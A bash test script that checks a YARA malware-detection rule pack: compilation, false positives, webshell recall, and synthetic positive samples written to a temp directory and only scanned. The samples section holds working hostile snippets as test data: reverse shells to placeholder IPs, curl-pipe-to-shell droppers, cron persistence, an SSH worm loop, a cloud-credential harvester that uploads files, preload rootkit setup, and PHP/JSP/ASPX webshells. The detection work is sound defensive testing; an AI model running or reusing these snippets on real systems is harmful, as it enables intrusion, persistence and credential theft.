#!/usr/bin/env bash
# Quality checks for yingji's embedded YARA rule pack (rules/yara/*.yar).
#
#   1. every file compiles with yarac, alone and all together, without
#      warnings (no "may slow down scanning"), and every rule has the
#      required meta fields;
#   2. false positives: scans the benign web applications of the webshell
#      development set and a normal system (/usr /etc /lib); no rule outside
#      the webshell rules may fire, webshell rules must stay under 0.5% of
#      the benign web files;
#   3. recall of each webshell rule on the malicious development set;
#   4. every non-webshell rule fires on a synthetic positive sample written
#      by this script to a temporary directory (samples are data: nothing
#      scanned here is ever executed).
#
# Usage: rules/yara/check.sh [--quick]     (--quick skips the /usr /etc /lib scan)
# Environment: WSDEV (default /var/tmp/wsdev/webshell-dev), CORPUS (default
# ../shared/corpus relative to the repository), SYSDIRS (default "/usr /etc /lib"),
# EXTRA_BENIGN (more benign web applications, e.g. Debian's wordpress, phpmyadmin,
# mediawiki, roundcube, dokuwiki, tomcat10-examples unpacked with
# `apt-get download PKG && dpkg -x PKG.deb DIR`; same thresholds as the benign set).
# Exit status 0 when every check passes.

set -u
HERE="$(cd "$(dirname "${BASH_SOURCE[0]}")" && pwd)"
REPO="$(cd "$HERE/../.." && pwd)"
WSDEV="${WSDEV:-/var/tmp/wsdev/webshell-dev}"
CORPUS="${CORPUS:-$REPO/../shared/corpus}"
SYSDIRS="${SYSDIRS:-/usr /etc /lib}"
QUICK=0
[ "${1:-}" = "--quick" ] && QUICK=1
NICE="nice -n 19"
THREADS=2
FAIL=0
fail() { echo "FAIL: $*"; FAIL=1; }

for t in yara yarac; do
    command -v "$t" >/dev/null || { echo "$t not found (apt-get install yara)"; exit 2; }
done
echo "yara $(yara --version)"

TMP="$(mktemp -d /tmp/yingji-yara-check.XXXXXX)"
trap 'rm -rf "$TMP"' EXIT

# ---------------------------------------------------------------- 1. compile
echo
echo "== 1. compile"
for f in "$HERE"/*.yar; do
    out="$(yarac "$f" "$TMP/one.yc" 2>&1)"; rc=$?
    if [ $rc -ne 0 ]; then fail "$(basename "$f") does not compile: $out"
    elif [ -n "$out" ]; then fail "$(basename "$f") warnings: $out"
    else echo "ok   $(basename "$f"): $(grep -c '^rule ' "$f") rules"; fi
done
cat "$HERE"/*.yar > "$TMP/all.yar"
out="$(yarac "$TMP/all.yar" "$TMP/all.yc" 2>&1)" || fail "pack does not compile as one namespace: $out"
[ -n "$out" ] && fail "pack warnings: $out"
[ -f "$TMP/all.yc" ] || { echo "cannot continue"; exit 1; }

# meta convention: author = "yingji", description, description_zh, severity, mitre, date
python3 - "$TMP/all.yar" <<'PY' || FAIL=1
import re, sys
src = open(sys.argv[1], encoding="utf-8").read()
bad = 0
for m in re.finditer(r'^rule\s+(\w+)[^{]*\{(.*?)\n\}', src, re.S | re.M):
    name, body = m.group(1), m.group(2)
    meta = dict(re.findall(r'^\s*(\w+)\s*=\s*"((?:[^"\\]|\\.)*)"', body.split("strings:")[0].split("condition:")[0], re.M))
    probs = []
    if meta.get("author") != "yingji": probs.append("author")
    for k in ("description", "description_zh", "date", "mitre"):
        if not meta.get(k): probs.append(k)
    if meta.get("severity") not in ("critical", "high", "medium", "low"): probs.append("severity")
    if meta.get("mitre") and not re.fullmatch(r"T\d{4}(\.\d{3})?", meta["mitre"]): probs.append("mitre format")
    if meta.get("date") and not re.fullmatch(r"\d{4}-\d{2}-\d{2}", meta["date"]): probs.append("date format")
    if meta.get("description_zh") and not re.search(r"[\u4e00-\u9fff]", meta["description_zh"]): probs.append("description_zh not Chinese")
    if probs:
        bad += 1
        print(f"FAIL: rule {name}: bad or missing meta: {', '.join(probs)}")
n = len(re.findall(r'^rule\s+\w+', src, re.M))
print(f"meta: {n} rules checked, {bad} with problems")
sys.exit(1 if bad else 0)
PY

# webshell rules = rules tagged "webshell"
grep -E '^rule [A-Za-z0-9_]+ *:[^{]*\bwebshell\b' "$TMP/all.yar" | awk '{print $2}' | sort > "$TMP/ws_rules"
grep -E '^rule ' "$TMP/all.yar" | awk '{print $2}' | sort > "$TMP/all_rules"
comm -23 "$TMP/all_rules" "$TMP/ws_rules" > "$TMP/other_rules"
echo "rules: $(wc -l < "$TMP/all_rules") ($(wc -l < "$TMP/ws_rules") webshell, $(wc -l < "$TMP/other_rules") other)"

# -N: do not follow symbolic links (the file they point to is scanned where it
# lives; Debian has loops such as /usr/lib/llvm-14/build/Release -> ..).
scan() { # scan DIR... -> "rule path" lines on stdout
    $NICE yara -C -r -N -w -p "$THREADS" "$TMP/all.yc" "$@" 2>/dev/null
}

# ------------------------------------------------------------- 2. false positives
echo
echo "== 2. false positives"
if [ ! -d "$WSDEV/benign" ]; then
    if [ -f "$CORPUS/webshell-dev.tar.gz" ]; then
        mkdir -p "$(dirname "$WSDEV")"
        tar xzf "$CORPUS/webshell-dev.tar.gz" -C "$(dirname "$WSDEV")"
    fi
fi
if [ -d "$WSDEV/benign" ]; then
    nben=$(find "$WSDEV/benign" -type f | wc -l)
    scan "$WSDEV/benign" > "$TMP/benign.hits"
    wsfp=$(grep -F -w -f "$TMP/ws_rules" "$TMP/benign.hits" | awk '{print $2}' | sort -u | wc -l)
    otherfp=$(grep -F -w -f "$TMP/other_rules" "$TMP/benign.hits" | wc -l)
    echo "benign web files: $nben; webshell-rule hits: $wsfp files ($(awk -v a="$wsfp" -v b="$nben" 'BEGIN{printf "%.2f", 100*a/b}')%); other-rule hits: $otherfp"
    sed 's/^/  benign hit: /' "$TMP/benign.hits" | head -50
    [ "$otherfp" -eq 0 ] || fail "non-webshell rules fire on benign web files"
    awk -v a="$wsfp" -v b="$nben" 'BEGIN{exit !(a*200 < b)}' || fail "webshell rules hit >= 0.5% of benign web files"
else
    fail "benign set not found ($WSDEV/benign; $CORPUS/webshell-dev.tar.gz)"
fi

for d in ${EXTRA_BENIGN:-}; do
    [ -d "$d" ] || { fail "EXTRA_BENIGN $d is not a directory"; continue; }
    n=$(find "$d" -type f | wc -l)
    scan "$d" > "$TMP/extra.hits"
    wsfp=$(grep -F -w -f "$TMP/ws_rules" "$TMP/extra.hits" | awk '{print $2}' | sort -u | wc -l)
    otherfp=$(grep -F -w -f "$TMP/other_rules" "$TMP/extra.hits" | wc -l)
    echo "extra benign $d: $n files; webshell-rule hits: $wsfp files; other-rule hits: $otherfp"
    sed 's/^/  extra benign hit: /' "$TMP/extra.hits" | head -50
    [ "$otherfp" -eq 0 ] || fail "non-webshell rules fire on $d"
    awk -v a="$wsfp" -v b="$n" 'BEGIN{exit !(a*200 < b)}' || fail "webshell rules hit >= 0.5% of $d"
done

if [ $QUICK -eq 0 ]; then
    dirs=""
    for d in $SYSDIRS; do
        [ -e "$d" ] || continue
        r="$(readlink -f "$d")"
        case " $dirs " in *" $r "*) continue;; esac
        skip=0; for e in $dirs; do case "$r/" in "$e"/*) skip=1;; esac; done
        [ $skip -eq 0 ] && dirs="$dirs $r"
    done
    echo "system scan:$dirs"
    start=$(date +%s)
    # shellcheck disable=SC2086
    for d in $dirs; do scan "$d"; done > "$TMP/sys.hits"
    echo "  $(find $dirs -xdev -type f 2>/dev/null | wc -l) files in $(( $(date +%s) - start ))s"
    sysother=$(grep -F -w -f "$TMP/other_rules" "$TMP/sys.hits" | wc -l)
    sysws=$(grep -F -w -f "$TMP/ws_rules" "$TMP/sys.hits" | wc -l)
    echo "  non-webshell rule hits: $sysother; webshell rule hits: $sysws"
    sed 's/^/  system hit: /' "$TMP/sys.hits" | head -50
    [ "$sysother" -eq 0 ] || fail "non-webshell rules fire on the system directories"
fi

# ------------------------------------------------------------- 3. webshell recall
echo
echo "== 3. webshell recall on $WSDEV/malicious"
if [ -d "$WSDEV/malicious" ]; then
    scan "$WSDEV/malicious" > "$TMP/mal.hits"
    nmal=$(find "$WSDEV/malicious" -type f | wc -l)
    wsall=$(grep -F -w -f "$TMP/ws_rules" "$TMP/mal.hits" | awk '{print $2}' | sort -u | wc -l)
    anyall=$(awk '{print $2}' "$TMP/mal.hits" | sort -u | wc -l)
    echo "files caught by webshell rules: $wsall / $nmal ($(awk -v a="$wsall" -v b="$nmal" 'BEGIN{printf "%.1f", 100*a/b}')%); by any rule: $anyall"
    for l in $(ls "$WSDEV/malicious"); do
        n=$(find "$WSDEV/malicious/$l" -type f | wc -l)
        h=$(grep -F -w -f "$TMP/ws_rules" "$TMP/mal.hits" | awk '{print $2}' | grep "/malicious/$l/" | sort -u | wc -l)
        printf "  %-6s %5d / %-5d %5.1f%%\n" "$l" "$h" "$n" "$(awk -v a="$h" -v b="$n" 'BEGIN{print 100*a/b}')"
    done
    echo "per rule (files caught):"
    while read -r r; do
        printf "  %-48s %5d\n" "$r" "$(grep -c "^$r " "$TMP/mal.hits")"
    done < "$TMP/ws_rules"
else
    echo "malicious set not found, skipped"
fi

# ------------------------------------------------------------- 4. synthetic positives
echo
echo "== 4. synthetic positive samples"
S="$TMP/samples"
mkdir -p "$S"
# Each sample is named <RuleName>[.<n>]; it must make that rule fire.
# Text samples are written with printf/heredocs; "binary" samples are an ELF
# header followed by the strings a real sample contains. Never executed.
elf() { printf '\177ELF\002\001\001\000\000\000\000\000\000\000\000\000\002\000\076\000'; head -c 200 /dev/zero; }
elfrel() { printf '\177ELF\002\001\001\000\000\000\000\000\000\000\000\000\001\000\076\000'; head -c 200 /dev/zero; }
w() { cat > "$S/$1"; }

# --- miners
w Miner_XMRig_Config <<'EOF'
{
    "autosave": true,
    "donate-level": 0,
    "cpu": {"enabled": true, "huge-pages": true, "max-threads-hint": 100},
    "randomx": {"init": -1, "mode": "auto", "1gb-pages": false},
    "pools": [{"algo": "rx/0", "coin": "monero", "url": "pool.example.net:3333", "user": "WALLET", "pass": "x", "rig-id": null, "nicehash": false, "keepalive": true, "tls": false}]
}
EOF
w Miner_Stratum_Pool_Config <<'EOF'
{"url": "stratum+tcp://pool.example.net:4444", "user": "44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A", "pass": "x"}
EOF
{ elf; printf 'XMRig/%%s\0donate.v2.xmrig.com\0randomx\0cryptonight\0rx/0\0stratum+tcp://\0mining.subscribe\0xmrig\0'; } > "$S/Miner_XMRig_Binary"
{ elf; printf 'cpuminer-multi\0stratum+tcp://\0mining.subscribe\0mining.notify\0mining.submit\0hashrate\0'; } > "$S/Miner_Generic_CPU_GPU_Miner_Binary"
w Miner_Command_Line <<'EOF'
#!/bin/sh
nohup /var/tmp/.x/systemd-helper -o pool.supportxmr.com:443 -u WALLET -k --tls --donate-level 1 -a rx/0 -B >/dev/null 2>&1 &
EOF
w Miner_Installer_Script <<'EOF'
#!/bin/bash
curl -sL https://github.com/xmrig/xmrig/releases/download/v6.21.0/xmrig-6.21.0-linux-static-x64.tar.gz -o /tmp/x.tgz
sysctl -w vm.nr_hugepages=1280
modprobe msr
sed -i 's/"donate-level": 1/"donate-level": 0/' config.json
systemctl enable xmrig_miner
EOF

# --- botnets
{ elf; printf '/bin/busybox MIRAI\0/dev/watchdog\0LCOGQGPTGP\0'; } > "$S/Linux_Botnet_Mirai"
{ elf; printf 'PING\0PONG!\0GETLOCALIP\0SCANNER ON\0SCANNER OFF\0KILLATTK\0LOLNOGTFO\0HTTPFLOOD\0'; } > "$S/Linux_Botnet_Gafgyt"
w Linux_Backdoor_Tsunami_Kaiten <<'EOF'
"NOTICE %s :TSUNAMI <target> <secs>          = A PUSH+ACK flooder\n"
"NOTICE %s :PAN <target> <port> <secs>       = A SYN flooder\n"
"NOTICE %s :UNKNOWN <target> <secs>          = Another non-spoof udp flooder\n"
"NOTICE %s :NICK <nick>                      = Changes the nick of the client\n"
"NOTICE %s :GETSPOOFS                        = Gets the current spoofing\n"
"NOTICE %s :KILLALL                          = Kills all current packeting\n"
EOF
{ elf; printf 'main.Ares_Tcp\0main.Ares_Tcp_Keep\0main.Ares_ipspoof\0main.Killcpu\0'; } > "$S/Linux_Botnet_Kaiji_Chaos"
w Linux_Trojan_XorDDoS <<'EOF'
#!/bin/sh
PATH=/bin:/sbin:/usr/bin:/usr/sbin:/usr/local/bin:/usr/local/sbin:/usr/X11R6/bin
for i in `cat /proc/net/dev|grep :|awk -F: {'print $1'}`; do ifconfig $i up& done
cp /lib/libudev.so /lib/libudev.so.6
/lib/libudev.so.6
EOF
{ elf; printf '/tmp/gates.lod\0/tmp/moni.lod\0fake.cfg\0CAttackSyn\0CAttackUdp\0'; } > "$S/Linux_Botnet_BillGates"
{ elf; printf '[ss]\0[dip]\0[hp]\0[cpu]\0[idp]\0[ver]\0dht.transmissionbt.com\0'; } > "$S/Linux_Botnet_Mozi"
w Linux_Bot_Perl_IRC_ShellBot <<'EOF'
use IO::Socket::INET;
my @adms=("x");
my $servidor='irc.example.net';
sub conectar { print $IRC_socket "NICK $nick\r\n"; print $IRC_socket "USER $ident 8 * :$fullname\r\n"; print $IRC_socket "JOIN $chan\r\n"; }
if ($msg =~ /^!u\s+udpflood/) { sendraw("PRIVMSG $printl :udpflood started"); }
if ($msg =~ /portscan/) { system("id"); }
EOF

# --- cloud worms / droppers
w Linux_Worm_Kinsing <<'EOF'
#!/bin/bash
ps aux | grep -v grep | grep 'kdevtmpfsi' | awk '{print $2}' | xargs -I % kill -9 %
curl -s http://203.0.113.5/d.sh | bash
chmod 777 /tmp/kdevtmpfsi
/etc/kinsing
EOF
w Linux_Worm_TeamTNT <<'EOF'
#!/bin/bash
# TeamTNT was here
curl -sLk http://203.0.113.9/aws.sh | bash
cat /root/.aws/credentials
tmate -S /tmp/tmate.sock new-session -d
EOF
w Linux_Worm_Competitor_Miner_Killer <<'EOF'
#!/bin/sh
pkill -f kdevtmpfsi
pkill -9 -f kinsing
killall -9 xmrig
pkill -f sysupdate
ps aux | grep -v grep | grep kworkerds | awk '{print $2}' | xargs kill -9
netstat -anp | grep :3333 | awk '{print $7}' | awk -F'[/]' '{print $1}' | xargs -I % kill -9 %
EOF
w Linux_Dropper_Security_Agent_Removal <<'EOF'
#!/bin/bash
/usr/local/qcloud/stargate/admin/uninstall.sh
/usr/local/qcloud/YunJing/uninst.sh
wget http://update.aegis.aliyun.com/download/uninstall.sh && bash uninstall.sh
setenforce 0
EOF
w Linux_Dropper_Download_Execute_Chain <<'EOF'
#!/bin/sh
ulimit -n 65535
chattr -i /etc/crontab
curl -fsSL http://198.51.100.7/x86_64 -o /tmp/.systemd-private
chmod +x /tmp/.systemd-private
nohup /tmp/.systemd-private >/dev/null 2>&1 &
(crontab -l 2>/dev/null; echo "*/5 * * * * /tmp/.systemd-private") | crontab -
history -c
EOF
w Linux_Dropper_Base64_Pipe_Shell <<'EOF'
echo Y3VybCAtZnNTTCBodHRwOi8vMTk4LjUxLjEwMC43L2Euc2ggfCBzaAo= | base64 -d | bash
EOF
w Linux_Worm_SSH_Propagation <<'EOF'
#!/bin/bash
KEYS=$(find ~/ /root /home -maxdepth 3 -name 'id_rsa*' | grep -vw pub)
HOSTS=$(cat ~/.ssh/config /home/*/.ssh/config /root/.ssh/config | grep HostName | awk -F "HostName" '{print $2}')
HOSTS2=$(cat ~/.bash_history /home/*/.bash_history | grep -E "(ssh|scp)" | grep -oP "([0-9]{1,3}\.){3}[0-9]{1,3}")
HOSTS3=$(cat ~/.ssh/known_hosts | grep -oP "([0-9]{1,3}\.){3}[0-9]{1,3}")
for h in $HOSTS $HOSTS2 $HOSTS3; do
  ssh -oStrictHostKeyChecking=no -oBatchMode=yes -oConnectTimeout=5 -i $k root@$h "(curl -fsSL http://198.51.100.7/s.sh||wget -q -O- http://198.51.100.7/s.sh)|sh"
done
EOF
w Linux_Persistence_Cron_Download_Exec <<'EOF'
*/30 * * * * (curl -fsSL http://198.51.100.7/cr.sh || wget -q -O- http://198.51.100.7/cr.sh) | sh
EOF
w Linux_Persistence_Systemd_Unit_Temp_Exec <<'EOF'
[Unit]
Description=System helper

[Service]
ExecStart=/dev/shm/.x/helper --quiet
Restart=always

[Install]
WantedBy=multi-user.target
EOF

# --- rootkits
w Rootkit_LKM_Diamorphine <<'EOF'
/* diamorphine.c */
static asmlinkage long hacked_kill(const struct pt_regs *pt_regs) { if (sig == SIGINVIS) { give_root(); } }
static asmlinkage int hacked_getdents64(...) { if (is_invisible(pid)) ...; module_hide(); }
EOF
w Rootkit_LKM_Reptile <<'EOF'
# persistence added by the installer
#<reptile>
/reptile/reptile_start
#</reptile>
EOF
{ elfrel; printf '.gnu.linkonce.this_module\0kallsyms_lookup_name\0sys_call_table\0__x64_sys_getdents64\0hide_pid\0orig_getdents64\0give_root\0'; } > "$S/Rootkit_LKM_Generic_Syscall_Hook"
w Rootkit_LDPreload_Process_Hider <<'EOF'
static const char* process_to_filter = "evil_script.py";
static int get_process_name(char* pid, char* buf) { snprintf(tmp, sizeof(tmp), "/proc/%s/stat", pid); }
original_readdir = dlsym(RTLD_NEXT, "readdir");
EOF
{ elf; printf 'azazel\0__libc_dlsym\0readdir\0fopen\0accept\0dlsym\0'; } > "$S/Rootkit_LDPreload_Known_Families"
w Rootkit_LDPreload_Config_Script <<'EOF'
cp libsystem.so /usr/local/lib/libsystem.so
echo /usr/local/lib/libsystem.so > /etc/ld.so.preload
chattr +i /etc/ld.so.preload
EOF

# --- reverse shells
w ReverseShell_Bash_DevTcp <<'EOF'
bash -i >& /dev/tcp/203.0.113.10/4444 0>&1
EOF
w ReverseShell_Netcat_Exec <<'EOF'
rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 203.0.113.10 4444 >/tmp/f
EOF
w ReverseShell_Netcat_Exec.2 <<'EOF'
nc 203.0.113.10 4444 -e /bin/bash
EOF
w ReverseShell_Python <<'EOF'
python3 -c 'import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect(("203.0.113.10",4444));os.dup2(s.fileno(),0); os.dup2(s.fileno(),1);os.dup2(s.fileno(),2);import pty; pty.spawn("/bin/bash")'
EOF
w ReverseShell_Perl <<'EOF'
perl -e 'use Socket;$i="203.0.113.10";$p=4444;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,">&S");open(STDOUT,">&S");open(STDERR,">&S");exec("/bin/sh -i");};'
EOF
w ReverseShell_PHP_Socket <<'EOF'
php -r '$sock=fsockopen("203.0.113.10",4444);exec("/bin/sh -i <&3 >&3 2>&3");'
EOF
w ReverseShell_Ruby_Lua_Awk <<'EOF'
ruby -rsocket -e'f=TCPSocket.open("203.0.113.10",4444).to_i;exec sprintf("/bin/sh -i <&%d >&%d 2>&%d",f,f,f)'
EOF
w ReverseShell_Ruby_Lua_Awk.2 <<'EOF'
awk 'BEGIN {s = "/inet/tcp/0/203.0.113.10/4444"; while(42) { do{ printf "shell>" |& s; s |& getline c; if(c){ while ((c |& getline) > 0) print $0 |& s; close(c); } } while(c != "exit") close(s); }}' /dev/null
EOF
w ReverseShell_Socat_OpenSSL <<'EOF'
socat exec:'bash -li',pty,stderr,setsid,sigint,sane tcp:203.0.113.10:4444
EOF
{ elf; printf '\x6a\x29\x58\x99\x6a\x02\x5f\x6a\x01\x5e\x0f\x05\x48\x97'; } > "$S/ReverseShell_Metasploit_ELF_Payload"
w ReverseShell_C_Source <<'EOF'
#include <sys/socket.h>
int main(void) {
    int s = socket(AF_INET, SOCK_STREAM, 0);
    connect(s, (struct sockaddr *)&sa, sizeof(sa));
    dup2(s, 0); dup2(s, 1); dup2(s, 2);
    execve("/bin/sh", argv, NULL);
}
EOF

# --- hack tools
{ elf; printf 'github.com/shadow1ng/fscan/Plugins\0[+] NetInfo\0WebTitle\0'; } > "$S/HackTool_Fscan"
{ elf; printf 'github.com/fatedier/frp/client\0login to server success\0'; } > "$S/HackTool_FRP_Binary"
w HackTool_FRP_Config <<'EOF'
[common]
server_addr = 198.51.100.20
server_port = 7000
token = 123456

[socks5]
type = tcp
remote_port = 6000
plugin = socks5
EOF
w HackTool_NPS_Client <<'EOF'
./npc -server=198.51.100.20:8024 -vkey=abcd1234efgh -type=tcp
EOF
{ elf; printf 'rcsocks\0rssocks\0lcx_tran\0lcx_listen\0ssocksd\0'; } > "$S/HackTool_Tunnel_Proxy_Binaries"
{ elf; printf 'github.com/jpillora/chisel/client\0'; } > "$S/HackTool_Tunnel_Proxy_Binaries.2"
w HackTool_Linux_Enumeration_Scripts <<'EOF'
#!/bin/sh
# linpeas.sh - PEASS-ng by carlospolop
find / -perm -4000 -type f 2>/dev/null
EOF
{ elf; printf 'github.com/dominicbreuker/pspy/internal\0'; } > "$S/HackTool_Pspy"
w HackTool_Masscan_Zmap <<'EOF'
rate =  100000.00
output-filename = scan.txt
ports = 6379,2375,22
adapter-ip = 10.0.0.5
EOF
w HackTool_Brute_Forcers <<'EOF'
./pscan2 $1 22
./ssh-scan 300
cat mfu.txt >> vuln.txt
EOF
{ elf; printf 'OpenSSH_7.4\0user:password --> %%s:%%s\n\0'; } > "$S/HackTool_SSHD_Backdoor"
{ elf; printf 'Usage: %%s [ -c [ connect_back_host ] ] [ -s secret ] [ -p port ]\0'; } > "$S/HackTool_Prism_TinyShell_Backdoor"
w Exploit_Linux_Local_Privilege_Escalation <<'EOF'
// PwnKit CVE-2021-4034
char *env[] = { "pwnkit", "PATH=GCONV_PATH=.", "CHARSET=PWNKIT", NULL };
execve("/usr/bin/pkexec", args, env);
EOF

# --- credential theft
w CredTheft_Cloud_Credentials_Harvester <<'EOF'
#!/bin/sh
cat /root/.aws/credentials /root/.docker/config.json /root/.kube/config > /tmp/c.txt
curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/ >> /tmp/c.txt
curl -F "f=@/tmp/c.txt" http://198.51.100.30/up.php
EOF
w CredTheft_Mimipenguin_Memory_Dump <<'EOF'
#!/bin/bash
# mimipenguin.sh - dump login passwords from memory
EOF
w CredTheft_SSH_Key_Collector <<'EOF'
find / -name id_rsa 2>/dev/null > /tmp/k
cat /home/*/.ssh/known_hosts >> /tmp/k
tar czf /tmp/k.tgz /tmp/k
EOF
w CredTheft_Password_Sniffer_Strace <<'EOF'
strace -f -p $(pgrep -f "sshd -D") -e trace=read,write -o /tmp/.sshd.log
EOF
w CredTheft_PAM_Backdoor_Logger <<'EOF'
auth optional pam_exec.so quiet expose_authtok /usr/local/bin/.pamlog
EOF

# --- webshell families absent from the development set (newer tools)
w WebShell_PHP_Behinder <<'EOF'
<?php
@error_reporting(0);
session_start();
$key="0123456789abcdef";
$_SESSION['k']=$key;
$post=file_get_contents("php://input");
$post=openssl_decrypt($post, "AES128", $key);
$arr=explode('|',$post);
class C{public function __invoke($p) {eval($p."");}}
@call_user_func(new C(),$arr[1]);
EOF
w WebShell_PHP_Godzilla <<'EOF'
<?php
@session_start();
function encode($D,$K){for($i=0;$i<strlen($D);$i++){$D[$i]=$D[$i]^$K[$i+1&15];}return $D;}
$pass='secret';
$payloadName='payload';
$key='0123456789abcdef';
if (isset($_POST[$pass])){
    $data=encode(base64_decode($_POST[$pass]),$key);
    if (isset($_SESSION[$payloadName])){ $payload=encode($_SESSION[$payloadName],$key); }
    echo substr(md5($pass.$key),0,16);
}
EOF
w WebShell_JSP_ClassLoader_Payload <<'EOF'
<%@page import="java.util.*,javax.crypto.*,javax.crypto.spec.*"%>
<%!class U extends ClassLoader{U(ClassLoader c){super(c);}public Class g(byte []b){return super.defineClass(b,0,b.length);}}%>
<%if (request.getMethod().equals("POST")){String k="0123456789abcdef";session.putValue("u",k);Cipher c=Cipher.getInstance("AES");c.init(2,new SecretKeySpec(k.getBytes(),"AES"));new U(this.getClass().getClassLoader()).g(c.doFinal(java.util.Base64.getDecoder().decode(request.getReader().readLine()))).newInstance().equals(pageContext);}%>
EOF
w WebShell_JSP_Script_Engine_Request <<'EOF'
<%@ page import="javax.script.*" %>
<% ScriptEngineManager m = new ScriptEngineManager(); ScriptEngine e = m.getEngineByName("js");
   out.print(e.eval(request.getParameter("code"))); %>
EOF
w WebShell_JSP_Reflection_Exec <<'EOF'
<% Class c = Class.forName("java.lang.Runtime");
   Object rt = c.getMethod("getRuntime").invoke(null);
   c.getMethod("exec", String.class).invoke(rt, request.getParameter("c")); %>
EOF
w WebShell_ASPX_Assembly_Load <<'EOF'
<%@ Page Language="C#" %><%@Import Namespace="System.Reflection"%>
<%Session.Add("k","0123456789abcdef"); byte[] k = Encoding.Default.GetBytes(Session[0] + ""),c = Request.BinaryRead(Request.ContentLength);
Assembly.Load(new System.Security.Cryptography.RijndaelManaged().CreateDecryptor(k, k).TransformFinalBlock(c, 0, c.Length)).CreateInstance("U").Equals(this);%>
EOF
w WebShell_Python_CGI_Command <<'EOF'
#!/usr/bin/env python3
import cgi, os
form = cgi.FieldStorage()
print("Content-type: text/html\n")
print(os.popen(form.getvalue("cmd")).read())
EOF
w WebShell_Suo5_Tunnel <<'EOF'
<%@ page import="java.nio.channels.SocketChannel" %>
<%! // suo5 tunnel
%><% java.io.InputStream in = request.getInputStream(); SocketChannel sc = SocketChannel.open(); %>
EOF
w WebShell_Tunnel_ReGeorg <<'EOF'
<?php
$cmd = $_SERVER['HTTP_X_CMD'];
if ($cmd == "CONNECT") { $sock = fsockopen($target, $port); header('X-STATUS: OK'); }
elseif ($cmd == "DISCONNECT") { } elseif ($cmd == "READ") { } elseif ($cmd == "FORWARD") { }
else { echo "Georg says, 'All seems fine'"; }
EOF

ok=0
for f in "$S"/*; do
    r="$(basename "$f")"; r="${r%%.*}"
    if yara -C -w "$TMP/all.yc" "$f" 2>/dev/null | awk '{print $1}' | grep -qx "$r"; then ok=$((ok + 1))
    else fail "rule $r does not fire on its sample $(basename "$f")"; fi
done
ls "$S" | sed 's/\..*//' | sort -u > "$TMP/sampled"
missing="$(comm -23 "$TMP/other_rules" "$TMP/sampled")"
[ -n "$missing" ] && fail "non-webshell rules without a synthetic sample: $(echo $missing)"
echo "samples: $(ls "$S" | wc -l), passed $ok"

echo
if [ $FAIL -eq 0 ]; then echo "check.sh: all checks passed"; else echo "check.sh: FAILED"; fi
exit $FAIL
